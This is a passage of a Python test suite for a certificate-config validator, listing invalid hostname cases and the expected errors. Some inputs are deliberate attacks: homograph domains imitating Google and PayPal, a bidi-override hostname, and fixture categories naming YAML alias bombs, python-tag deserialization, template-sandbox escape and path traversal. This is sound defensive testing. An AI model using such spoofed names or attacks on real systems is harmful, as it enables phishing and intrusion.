    Case("mixed-script-greek", IDN, 4, "mixes GREEK and LATIN letters", field="sans[0]",
         spec=dv("mixed-script-greek", "sans: [g\u03bfogle.example.com]")),
    Case("mixed-script-as-punycode", IDN, 4, "mixes CYRILLIC and LATIN letters", field="sans[0]",
         spec=dv("mixed-script-as-punycode", "sans: [xn--pypal-4ve.example.com]")),
    Case("uppercase-duplicate", IDN, 4, "'www.example.com' is listed twice (first as sans[0])", field="sans[1]",
         spec=dv("uppercase-duplicate", "sans: [WWW.Example.COM, www.example.com]")),
    Case("unicode-and-punycode-duplicate", IDN, 4, "'xn--bcher-kva.example.com' is listed twice", field="sans[1]",
         spec=dv("unicode-and-punycode-duplicate", "sans: [b\u00fccher.example.com, xn--bcher-kva.example.com]")),
    Case("trailing-dot", IDN, 4, "no trailing dot", field="sans[0]", spec=dv("trailing-dot", "sans: [www.example.com.]")),
    Case("ideographic-trailing-dot", IDN, 4, "no trailing dot", field="sans[0]",
         spec=dv("ideographic-trailing-dot", "sans: [\"www.example.com\u3002\"]")),
    Case("label-64-chars", IDN, 4, "Label too long", field="sans[0]",
         spec=dv("label-64-chars", f"sans: [{'a' * 64}.example.com]")),
    Case("name-over-253", IDN, 4, "Domain too long", field="sans[0]",
         spec=dv("name-over-253", "sans: [" + ".".join(["a" * 60] * 4) + ".example.com]")),
    Case("underscore-label", IDN, 4, "'_acme.example.com' is not a valid hostname", field="sans[0]",
         spec=dv("underscore-label", "sans: [_acme.example.com]")),
    Case("leading-hyphen", IDN, 4, "must not start or end with a hyphen", field="sans[0]",
         spec=dv("leading-hyphen", "sans: [-www.example.com]")),
    Case("hyphens-3-and-4", IDN, 4, "disallowed hyphens in 3rd and 4th position", field="sans[0]",
         spec=dv("hyphens-3-and-4", "sans: [ab--cd.example.com]")),
    Case("empty-label", IDN, 4, "Empty Label", field="sans[0]", spec=dv("empty-label", "sans: [www..example.com]")),
    Case("wildcard-in-middle", IDN, 4, "'*' is only allowed as the whole leftmost label", field="sans[0]",
         spec=dv("wildcard-in-middle", "sans: [www.*.example.com]")),
    Case("partial-wildcard", IDN, 4, "'*' is only allowed as the whole leftmost label", field="sans[0]",
         spec=dv("partial-wildcard", "sans: ['w*.example.com']")),
    Case("double-wildcard", IDN, 4, "'*' is only allowed as the whole leftmost label", field="sans[0]",
         spec=dv("double-wildcard", "sans: ['*.*.example.com']")),
    Case("wildcard-over-tld", IDN, 4, "needs at least two labels", field="sans[0]",
         spec=dv("wildcard-over-tld", "sans: ['*.com']")),
    Case("ip-address", IDN, 4, "IP addresses are not hostnames", field="sans[0]", spec=dv("ip-address", "sans: [192.0.2.1]")),
    Case("bidi-in-hostname", IDN, 4, "Codepoint U+202E", field="sans[0]",
         spec=dv("bidi-in-hostname", "sans: [\"\u202emoc.elpmaxe\"]")),
    Case("single-label", IDN, 4, "needs at least two labels", field="sans[0]", spec=dv("single-label", "sans: [localhost]")),
]

# The committed corpus, each file under a category (a new fixture without one fails the test).
FIXTURE_CATEGORIES = {
    "alias-bomb": BOMB, "custom-tag": TAGS, "python-tag": TAGS, "set-tag": TAGS, "duplicate-key": DUP,
    "template-sandbox": JINJA, "cert-path-absolute": PATHS, "cert-path-dotdot": PATHS, "cert-path-symlink": LINKS,
    "cert-not-pem": PEMS, "too-many-sans": SANS, "bad-common-name": IDN, "bad-hostname-san": IDN,
    "wildcard-http01": IDN,
}


def fixture_cases() -> list[Case]:
    """The committed malformed corpus as cases (their certs/ directory is copied alongside)."""
    cases = []
    for path in sorted((FIXTURES / "malformed").glob("*.yaml")):
        first = path.read_text(encoding="utf-8").splitlines()[0]
        line, fragment = first.removeprefix("# expect: ").split(": ", 1)
        cases.append(Case(path.stem, FIXTURE_CATEGORIES.get(path.stem, SCHEMA), int(line), fragment,
                          spec=path.read_bytes(), extra=_fixture_certs))
    return cases


def _fixture_certs(root: Path, outside: Path, pki: Pki) -> None:
    shutil.copytree(FIXTURES / "certs", root / "certs", symlinks=True)
